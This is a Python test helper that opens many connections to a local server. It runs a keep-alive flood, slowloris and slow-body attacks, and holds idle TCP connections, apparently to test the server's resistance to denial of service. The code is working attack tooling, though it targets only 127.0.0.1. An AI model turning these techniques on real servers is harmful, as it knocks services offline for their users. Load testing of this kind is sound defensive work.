"""One-address connection attacks for the e2e tests (not a test itself).

attack.py PORT SRC_IP MODE N SECONDS [READY_FILE]
  keepalive  N keep-alive connections each sending the next request as soon
             as the answer arrives (wrk-like flood)
  slowloris  N connections sending a request head one header line per second
             and never finishing it (slowhttptest -H)
  slowbody   N connections sending a POST head and then its body one byte
             per second (slowhttptest -B)
  idle       N connections that send nothing (idle TCP on a TLS port)
Connections the server closes are opened again, at most 500 a second (the
real tools reconnect too; slowhttptest's default rate is 50 a second). One thread, non-blocking sockets. Prints
"opened=... closed_by_server=... responses=..." at the end.
"""
import errno
import selectors
import socket
import sys
import time

port, src, mode, n, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
ready = sys.argv[6] if len(sys.argv) > 6 else None
REQ = b"GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n"
sel = selectors.DefaultSelector()
conns = {}
stats = {"opened": 0, "closed_by_server": 0, "responses": 0}


def open_one():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.bind((src, 0))
    except OSError:
        s.close()
        return
    err = s.connect_ex(("127.0.0.1", port))
    if err not in (0, errno.EINPROGRESS):
        s.close()
        return
    st = {"sock": s, "sent_head": False, "next": time.time(), "lines": 0}
    conns[s.fileno()] = st
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, st)
    stats["opened"] += 1


def drop(st, by_server):
    s = st["sock"]
    try:
        sel.unregister(s)
    except (KeyError, ValueError):
        pass
    conns.pop(s.fileno(), None)
    s.close()
    if by_server:
        stats["closed_by_server"] += 1


def send(st, data):
    try:
        st["sock"].send(data)
        return True
    except OSError:
        drop(st, True)
        return False


def on_writable(st):
    # Connected: send the opening bytes, then only read.
    sel.modify(st["sock"], selectors.EVENT_READ, st)
    if mode == "keepalive":
        send(st, REQ)
    elif mode == "slowloris":
        send(st, b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
    elif mode == "slowbody":
        send(st, b"POST /api/v1/operations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                 b"Content-Length: 8000\r\n\r\n")
    st["next"] = time.time() + 1


def on_readable(st):
    try:
        data = st["sock"].recv(65536)
    except OSError:
        data = b""
    if not data:
        return drop(st, True)
    if mode == "keepalive":
        k = data.count(b"HTTP/1.1 ")
        stats["responses"] += k
        for _ in range(k):
            if not send(st, REQ):
                return


RATE = 500  # new connections a second, after the first N
end = time.time() + seconds
last_fill = 0
if ready:
    for _ in range(n):
        open_one()
    open(ready, "w").close()
while time.time() < end:
    now = time.time()
    if now - last_fill >= 0.01 and len(conns) < n:
        for _ in range(min(n - len(conns), RATE // 100)):
            open_one()
        last_fill = now
    for key, ev in sel.select(timeout=0.01):
        st = key.data
        if st["sock"].fileno() < 0:
            continue
        if ev & selectors.EVENT_WRITE:
            on_writable(st)
        elif ev & selectors.EVENT_READ:
            on_readable(st)
    if mode in ("slowloris", "slowbody"):
        now = time.time()
        for st in list(conns.values()):
            if st["next"] <= now:
                st["next"] = now + 1
                send(st, b"X-a: b\r\n" if mode == "slowloris" else b" ")
print("opened=%d closed_by_server=%d responses=%d open_now=%d" % (
    stats["opened"], stats["closed_by_server"], stats["responses"], len(conns)))
